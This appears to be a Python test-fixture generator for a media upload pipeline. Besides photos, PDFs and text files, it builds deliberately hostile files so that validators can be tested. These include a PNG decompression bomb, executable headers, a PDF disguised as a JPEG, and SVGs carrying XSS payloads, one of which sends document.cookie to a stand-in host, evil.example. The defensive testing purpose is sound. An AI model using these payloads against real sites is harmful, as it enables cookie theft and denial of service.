"""A generated sample corpus for the demo and the tests: deterministic for a given seed.

Photo-like images (gradients, shapes and noise, so every picture has its own structure and
perceptual hash) in JPEG, PNG, WebP and GIF, some with EXIF; PDFs with real text pages; SVGs; text
files; exact copies and near-duplicates (resized, recompressed) of some photos; and one hostile file
per validation rule. Keys spread over the namespaces ``site/``, ``blog/`` and ``shop/`` and include
awkward characters (spaces, ``+``, ``%``, accents, Japanese) that break naive URL handling.

Nothing here touches S3: callers upload ``CorpusFile.data`` under ``CorpusFile.key``.
"""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass
from functools import lru_cache

import numpy as np
from PIL import ExifTags, Image, ImageDraw

from media_pipeline.fingerprint.phash import hamming, perceptual_hash

NAMESPACES = ("site", "blog", "shop")

KINDS = (
    "photo",
    "exif-photo",
    "gif",
    "animated-gif",
    "pdf",
    "svg",
    "text",
    "banner",
    "duplicate",
    "near-duplicate",
    "hostile",
)

HOSTILE_NAMES = (
    "zero-byte",
    "elf-binary",
    "windows-exe",
    "pdf-as-jpg",
    "decompression-bomb",
    "truncated-jpeg",
    "corrupt-pdf",
    "svg-script",
    "svg-onload",
    "svg-javascript-url",
    "svg-foreign-object",
)
"""One hostile file per validation rule (the size limit is exercised through settings instead)."""

# Keys that break naive URL encoding, S3 key handling or path joins.
ODD_NAMES = (
    "site/images/summer holiday 01.jpg",
    "blog/posts/a+b=c.png",
    "shop/products/café crème.jpg",
    "site/images/日本/富士山.webp",
    "blog/uploads/100% organic.jpg",
    "shop/products/50%25 off+sale.png",
)

_CAMERAS = (
    ("Canon", "EOS 5D Mark IV"),
    ("NIKON CORPORATION", "NIKON D750"),
    ("Apple", "iPhone 13"),
)
_WORDS = (
    *("media", "library", "invoice", "catalog", "summer", "product", "launch", "quarterly"),
    *("report", "gallery", "archive", "delivery", "customer", "review", "roadmap", "design"),
    *("asset", "release", "notes", "campaign", "budget"),
)
_MIN_DISTANCE = 12  # distinct photos are at least this far apart in pHash bits
_FIXED_FILES = 52  # files that are not plain photos (see generate_corpus)


@dataclass(frozen=True)
class CorpusFile:
    """One object to upload: ``content_type`` is what an uploader would declare (it may lie).

    ``note`` says what the file is for (for hostile files: the rule name from HOSTILE_NAMES);
    ``original`` is the key a duplicate or near-duplicate was made from.
    """

    key: str
    data: bytes
    content_type: str
    kind: str
    note: str = ""
    original: str | None = None


# --- images ------------------------------------------------------------------------------------


def photo(rng: np.random.Generator, width: int = 240, height: int = 180, *, noise: float = 6.0,
          shapes: np.random.Generator | None = None) -> Image.Image:
    """A photo-like RGB image: a directional gradient, a radial glow, shapes and sensor noise
    (standard deviation ``noise``; 0 for flat graphics). ``shapes`` draws the shapes and noise
    from another generator (same background, other shapes); by default ``rng`` draws all."""
    y, x = np.ogrid[0:height, 0:width]  # broadcast grids: no full-size coordinate arrays
    angle = rng.uniform(0, 2 * np.pi)
    ramp = ((np.cos(angle) * x / width + np.sin(angle) * y / height + 1.0) / 2.0).astype(np.float32)
    c1, c2 = rng.uniform(0, 255, 3).astype(np.float32), rng.uniform(0, 255, 3).astype(np.float32)
    img = c1 + (c2 - c1) * ramp[..., None]
    cx, cy = rng.uniform(0, width), rng.uniform(0, height)
    spread = 2 * (rng.uniform(0.15, 0.4) * width) ** 2
    glow = np.exp(-((x - cx) ** 2 + (y - cy) ** 2) / spread).astype(np.float32)
    img += glow[..., None] * rng.uniform(-90, 90, 3).astype(np.float32)
    base = Image.fromarray(np.clip(img, 0, 255).astype(np.uint8), "RGB")

    draw = ImageDraw.Draw(base)
    rng = shapes if shapes is not None else rng
    for _ in range(int(rng.integers(3, 8))):
        x0, x1 = sorted(rng.uniform(-0.2, 1.2, 2) * width)
        y0, y1 = sorted(rng.uniform(-0.2, 1.2, 2) * height)
        colour = tuple(int(v) for v in rng.integers(0, 256, 3))
        shape = int(rng.integers(0, 3))
        if shape == 0:
            draw.ellipse((x0, y0, x1 + 2, y1 + 2), fill=colour)
        elif shape == 1:
            draw.rectangle((x0, y0, x1 + 2, y1 + 2), fill=colour)
        else:
            points = [
                (float(px), float(py)) for px, py in rng.uniform(0, 1, (3, 2)) * (width, height)
            ]
            draw.polygon(points, fill=colour)

    if not noise:
        return base
    grain = rng.standard_normal((height, width, 3), dtype=np.float32) * np.float32(noise)
    noisy = np.asarray(base, dtype=np.float32) + grain
    return Image.fromarray(np.clip(noisy, 0, 255).astype(np.uint8), "RGB")


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def _exif(rng: np.random.Generator) -> Image.Exif:
    make, model = _CAMERAS[int(rng.integers(0, len(_CAMERAS)))]
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = make
    exif[ExifTags.Base.Model] = model
    exif[ExifTags.Base.Orientation] = int(rng.choice([1, 3, 6, 8]))
    taken = f"20{rng.integers(18, 25)}:{rng.integers(1, 13):02d}:{rng.integers(1, 29):02d} " + (
        f"{rng.integers(0, 24):02d}:{rng.integers(0, 60):02d}:{rng.integers(0, 60):02d}"
    )
    exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = taken
    return exif


# --- documents ---------------------------------------------------------------------------------


def _pdf_text(text: str) -> str:
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def pdf_document(pages: list[list[str]], title: str = "Sample") -> bytes:
    """A minimal valid PDF with one Helvetica text page per entry (correct xref offsets)."""
    n = len(pages)
    page_ids = [5 + 2 * i for i in range(n)]
    kids = " ".join(f"{p} 0 R" for p in page_ids)
    objects: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {n} >>".encode(),
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: f"<< /Title ({_pdf_text(title)}) /Producer (media-pipeline corpus) >>".encode(),
    }
    for page_id, lines in zip(page_ids, pages, strict=True):
        content = (
            "BT /F1 14 Tf 72 720 Td 18 TL "
            + " ".join(f"({_pdf_text(line)}) Tj T*" for line in lines)
            + " ET"
        ).encode("latin-1")
        objects[page_id] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            f"/Resources << /Font << /F1 3 0 R >> >> /Contents {page_id + 1} 0 R >>"
        ).encode()
        objects[page_id + 1] = (
            f"<< /Length {len(content)} >>\nstream\n".encode() + content + b"\nendstream"
        )
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number in range(1, len(objects) + 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + objects[number] + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R /Info 4 0 R >>\n"
        f"startxref\n{xref}\n%%EOF\n"
    ).encode()
    return bytes(out)


BANNER_TEXTS = ("SUMMER SALE", "GRAND OPENING", "FRESH COFFEE")


def banner(rng: np.random.Generator, text: str, width: int = 640, height: int = 240
           ) -> Image.Image:
    """A web banner: big dark text on a light photo-like background (for OCR)."""
    from PIL import ImageDraw, ImageFont

    background = photo(rng, width, height).convert("RGB")
    light = Image.blend(background, Image.new("RGB", background.size, (245, 245, 240)), 0.75)
    draw = ImageDraw.Draw(light)
    font = ImageFont.load_default(size=64)  # Pillow's bundled scalable font: same everywhere
    left, top, right, bottom = draw.textbbox((0, 0), text, font=font)
    position = ((width - (right - left)) // 2, (height - (bottom - top)) // 2 - top)
    draw.text(position, text, fill=(20, 20, 30), font=font)
    return light


def _sentence(rng: np.random.Generator, words: int = 9) -> str:
    return " ".join(str(w) for w in rng.choice(_WORDS, words)).capitalize() + "."


def svg_document(rng: np.random.Generator, width: int = 120, height: int = 80) -> bytes:
    colours = [f"#{int(v):06x}" for v in rng.integers(0, 0xFFFFFF, 3)]
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" '
        f'viewBox="0 0 {width} {height}">\n'
        f'  <rect width="{width}" height="{height}" fill="{colours[0]}"/>\n'
        f'  <circle cx="{width // 3}" cy="{height // 2}" r="{height // 3}" fill="{colours[1]}"/>\n'
        f'  <path d="M10 10 L{width - 10} {height - 10}" stroke="{colours[2]}" stroke-width="4"/>\n'
        "</svg>\n"
    ).encode()


# --- hostile files -----------------------------------------------------------------------------


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)
    )


@lru_cache(maxsize=1)
def _bomb_png(side: int = 20_000) -> bytes:
    """A real decompression bomb: a side x side 1-bit PNG of zeros, about 50 KB on disk."""
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    blocks = (row * min(1000, side - start) for start in range(0, side, 1000))
    idat = b"".join(compressor.compress(block) for block in blocks) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat)
        + _png_chunk(b"IEND", b"")
    )


def _elf_binary() -> bytes:
    """An x86-64 ELF executable header (libmagic: application/x-executable)."""
    header = b"\x7fELF" + bytes([2, 1, 1, 0]) + b"\x00" * 8
    header += struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    return header + b"\x00" * 448


def _windows_exe() -> bytes:
    """An MZ/PE32 header (libmagic: application/vnd.microsoft.portable-executable)."""
    pe = bytearray(1024)
    pe[0:2] = b"MZ"
    struct.pack_into("<I", pe, 0x3C, 0x80)
    pe[0x80:0x84] = b"PE\x00\x00"
    struct.pack_into("<HH", pe, 0x84, 0x14C, 1)  # i386, one section
    struct.pack_into("<HH", pe, 0x94, 0xE0, 0x0102)  # optional header size, executable
    struct.pack_into("<H", pe, 0x98, 0x10B)  # PE32 magic
    return bytes(pe)


_SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

_HOSTILE_SVGS = {
    "svg-script": (
        "site/icons/logo.svg",
        f'{_SVG_OPEN} width="64" height="64">\n  <rect width="64" height="64" fill="red"/>\n'
        '  <SCRIPT type="text/javascript">alert(document.cookie)</SCRIPT>\n</svg>\n',
    ),
    "svg-onload": (
        "blog/icons/badge.svg",
        f'{_SVG_OPEN} width="64" height="64"\n'
        "     ONLOAD = \"fetch('//evil.example/'+document.cookie)\">\n"
        '  <circle cx="32" cy="32" r="30"/>\n</svg>\n',
    ),
    "svg-javascript-url": (
        "shop/icons/cart.svg",
        f'{_SVG_OPEN} width="64" height="64">\n'
        '  <a xlink:href="jav&#x09;ascript&#58;alert(1)">\n'
        '    <rect width="64" height="64"/>\n  </a>\n</svg>\n',
    ),
    "svg-foreign-object": (
        "site/icons/frame.svg",
        f'{_SVG_OPEN} width="64" height="64">\n  <foreignObject width="64" height="64">\n'
        '    <body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example/"/></body>\n'
        "  </foreignObject>\n</svg>\n",
    ),
}


def hostile_file(name: str, *, seed: int = 7) -> CorpusFile:
    """The hostile file for one validation rule; ``name`` is one of HOSTILE_NAMES."""
    rng = np.random.default_rng([seed, HOSTILE_NAMES.index(name) if name in HOSTILE_NAMES else 99])
    if name == "zero-byte":
        return CorpusFile("site/uploads/empty.png", b"", "image/png", "hostile", name)
    if name == "elf-binary":
        return CorpusFile(
            "blog/uploads/helper", _elf_binary(), "application/octet-stream", "hostile", name
        )
    if name == "windows-exe":
        return CorpusFile(
            "shop/downloads/setup.exe", _windows_exe(), "application/x-msdownload", "hostile", name
        )
    if name == "pdf-as-jpg":
        data = pdf_document([["Invoice 2024-0042", "Total: 120.00 EUR"]], title="Invoice")
        return CorpusFile("shop/invoices/invoice.jpg", data, "image/jpeg", "hostile", name)
    if name == "decompression-bomb":
        return CorpusFile("site/images/huge.png", _bomb_png(), "image/png", "hostile", name)
    if name == "truncated-jpeg":
        data = encode(photo(rng), "JPEG", quality=85)
        return CorpusFile(
            "blog/photos/broken.jpg", data[: len(data) * 6 // 10], "image/jpeg", "hostile", name
        )
    if name == "corrupt-pdf":
        data = pdf_document([[_sentence(rng)] for _ in range(3)], title="Broken")
        return CorpusFile(
            "shop/docs/broken.pdf", data[: len(data) // 2], "application/pdf", "hostile", name
        )
    if name in _HOSTILE_SVGS:
        key, text = _HOSTILE_SVGS[name]
        return CorpusFile(key, text.encode(), "image/svg+xml", "hostile", name)
    raise ValueError(f"unknown hostile file {name!r}; expected one of {', '.join(HOSTILE_NAMES)}")


# --- the corpus --------------------------------------------------------------------------------


def _distinct_photo(
    rng: np.random.Generator, hashes: list[int], width: int, height: int
) -> Image.Image:
    """A photo whose pHash is at least _MIN_DISTANCE from every earlier one (bounded retries)."""
    image = photo(rng, width, height)
    for _ in range(20):
        value = perceptual_hash(image)
        if all(hamming(value, other) >= _MIN_DISTANCE for other in hashes):
            break
        image = photo(rng, width, height)
    hashes.append(perceptual_hash(image))
    return image


def generate_corpus(seed: int = 7, count: int = 220) -> list[CorpusFile]:
    """``count`` files (at least ``minimum_corpus_size()``), the same bytes for the same seed."""
    if count < minimum_corpus_size():
        raise ValueError(f"count must be at least {minimum_corpus_size()}, got {count}")
    rng = np.random.default_rng(seed)
    hashes: list[int] = []
    files: list[CorpusFile] = []

    # Plain photos, in rotating formats and namespaces; the first few get the odd keys.
    n_photos = count - _FIXED_FILES
    folders = {"site": "images", "blog": "uploads/2024", "shop": "products"}
    formats = (
        ("JPEG", "jpg", "image/jpeg"),
        ("PNG", "png", "image/png"),
        ("WEBP", "webp", "image/webp"),
        ("JPEG", "jpg", "image/jpeg"),
    )
    photos: list[tuple[CorpusFile, Image.Image]] = []
    for i in range(n_photos):
        fmt, ext, mime = formats[i % len(formats)]
        namespace = NAMESPACES[i % len(NAMESPACES)]
        key = f"{namespace}/{folders[namespace]}/photo-{i:03d}.{ext}"
        if i < len(ODD_NAMES):
            key = ODD_NAMES[i]
            ext = key.rsplit(".", 1)[1]
            fmt, mime = {
                "jpg": ("JPEG", "image/jpeg"),
                "png": ("PNG", "image/png"),
                "webp": ("WEBP", "image/webp"),
            }[ext]
        size = (240, 180) if fmt != "PNG" else (160, 120)  # noise makes PNGs big: keep them small
        image = _distinct_photo(rng, hashes, *size)
        options: dict[str, object] = {"quality": 85} if fmt in ("JPEG", "WEBP") else {}
        entry = CorpusFile(key, encode(image, fmt, **options), mime, "photo", f"{fmt} photo")
        photos.append((entry, image))
        files.append(entry)

    # From here on: exactly _FIXED_FILES files.
    for i in range(6):
        image = _distinct_photo(rng, hashes, 240, 180)
        key = f"{NAMESPACES[i % 3]}/camera/IMG_{1000 + i}.jpg"
        data = encode(image, "JPEG", quality=85, exif=_exif(rng))
        files.append(CorpusFile(key, data, "image/jpeg", "exif-photo", "JPEG with EXIF"))

    for i in range(3):
        image = _distinct_photo(rng, hashes, 120, 90).quantize(64)
        files.append(
            CorpusFile(f"blog/gifs/still-{i}.gif", encode(image, "GIF"), "image/gif", "gif", "GIF")
        )
    frames = [_distinct_photo(rng, hashes, 96, 72).quantize(64) for _ in range(4)]
    animated = encode(
        frames[0], "GIF", save_all=True, append_images=frames[1:], duration=120, loop=0
    )
    files.append(
        CorpusFile("site/gifs/spinner.gif", animated, "image/gif", "animated-gif", "4 frames")
    )

    for i in range(6):
        n_pages = (1, 3, 2, 1, 5, 1)[i]
        pages = [[_sentence(rng) for _ in range(6)] for _ in range(n_pages)]
        key = f"{NAMESPACES[i % 3]}/docs/report-{i}.pdf"
        data = pdf_document(pages, title=f"Report {i}")
        files.append(CorpusFile(key, data, "application/pdf", "pdf", f"{n_pages} pages"))

    for i in range(3):
        key = f"{NAMESPACES[i % 3]}/icons/icon-{i}.svg"
        files.append(CorpusFile(key, svg_document(rng), "image/svg+xml", "svg", "clean SVG"))

    for i in range(3):
        text = "\n".join(_sentence(rng) for _ in range(12)) + "\n"
        key = f"{NAMESPACES[i % 3]}/notes/note-{i}.txt"
        files.append(CorpusFile(key, text.encode(), "text/plain", "text", "plain text"))

    for i, text in enumerate(BANNER_TEXTS):
        image = banner(rng, text)
        key = f"{NAMESPACES[i % 3]}/banners/banner-{i}.jpg"
        data = encode(image, "JPEG", quality=85)
        files.append(CorpusFile(key, data, "image/jpeg", "banner", text))

    # Exact duplicates under other keys (same bytes), across namespaces.
    for i in range(8):
        source, _ = photos[i * 4 + 1]
        namespace = NAMESPACES[(i + 1) % 3]
        key = f"{namespace}/copies/copy-{i} of {source.key.rsplit('/', 1)[1]}"
        files.append(
            CorpusFile(
                key,
                source.data,
                source.content_type,
                "duplicate",
                f"copy of {source.key}",
                source.key,
            )
        )

    # Near-duplicates: resized to 50 % or recompressed at quality 40 (as JPEG).
    for i in range(8):
        source, image = photos[i * 4 + 2]
        if i % 2 == 0:
            variant = image.resize((image.width // 2, image.height // 2), Image.Resampling.LANCZOS)
            data, note = encode(variant, "JPEG", quality=85), f"50% resize of {source.key}"
        else:
            data, note = encode(image, "JPEG", quality=40), f"JPEG q=40 of {source.key}"
        key = f"{NAMESPACES[i % 3]}/variants/variant-{i}.jpg"
        files.append(CorpusFile(key, data, "image/jpeg", "near-duplicate", note, source.key))

    files.extend(hostile_file(name, seed=seed) for name in HOSTILE_NAMES)
    assert len(files) == count, (len(files), count)
    return files


def minimum_corpus_size() -> int:
    """The fixed files plus enough photos for the duplicates and variants to draw from."""
    return _FIXED_FILES + 4 * 8
